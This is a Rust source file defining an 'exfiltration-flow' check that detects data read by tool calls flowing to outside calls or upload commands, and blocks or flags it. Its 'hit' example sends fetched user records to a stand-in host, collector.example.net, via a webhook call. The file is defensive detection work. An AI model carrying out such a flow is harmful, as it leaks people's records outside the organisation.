//! Data that flows from where it is read to somebody else.

use crate::check::{Check, Context, leaks};
use crate::knowledge::host::is_drop;
use crate::knowledge::{Side, SinkKind};
use crate::meaning::argument::command_words;
use crate::meaning::command::sending::{destinations, uploads};
use crate::meaning::leak::LeakKind;
use crate::meaning::reach::Reach;
use crate::meaning::tool_read::command_sensitivity;
use crate::rule::Match;
use crate::subject::call::Value;
use crate::subject::flow::CallRef;
use crate::value::severity::Severity;
use crate::value::verdict::Action;

/// The check.
pub const CHECK: Check = Check {
    id: "exfiltration-flow",
    category: "exfiltration",
    severity: Severity::Critical,
    action: Action::Block,
    why: "Records that are read and flow into a call that leads outside leave the organisation for good.",
    help: "Send only what the receiver needs, to a place of your own (`trusted` in callgate.yaml), or return the records instead.",
    hit: "const user = await callTool('users:get', { id: 7 });\nawait callTool('webhook:send', { url: 'https://collector.example.net', body: user });\n",
    miss: "const user = await callTool('users:get', { id: 7 });\nawait callTool('webhook:send', { url: 'https://collector.example.net', body: 'done' });\n",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    let mut found = leaks(context, LeakKind::Plain);
    found.extend(context.features.ends.reaches.iter().filter_map(|reach| upload(context, reach)));
    found
}

/// A command that passes on what a file or another program holds, to somebody else.
fn upload(context: &Context<'_>, reach: &Reach) -> Option<Match> {
    if !reach.does(SinkKind::Command) || reach.side != Side::Outside || !reach.is_constant {
        return None;
    }
    let mut commands = Vec::new();
    let mut look = |value: &Value| {
        if let Value::String(text, _) | Value::Partial(text, _) = value {
            commands.push(text.clone());
        }
    };
    match reach.call {
        CallRef::Tool(index) => context.subject.calls.get(index)?.argument.visit("", &mut |_, value| look(value)),
        CallRef::Host(index) => {
            let arguments = &context.subject.host_calls.get(index)?.arguments;
            commands.push(arguments.iter().take(2).flat_map(command_words).collect::<Vec<_>>().join(" "));
        }
    }
    let command = commands.iter().find(|command| uploads(command) && !destinations(command).is_empty())?;
    let is_known = command_sensitivity(command).is_some() || commands.iter().any(|command| command_sensitivity(command).is_some());
    let is_bad = is_known || reach.shown.as_deref().is_some_and(is_drop);
    let (severity, action) = if is_bad { (Severity::Critical, Action::Block) } else { (Severity::High, Action::Confirm) };
    let message = format!("a command of `{}` passes files on to {}", reach.name, reach.shown.as_deref().unwrap_or("somebody else"));
    Some(Match::new(context.rule, reach.span).with_severity(severity, action).with_message(message))
}
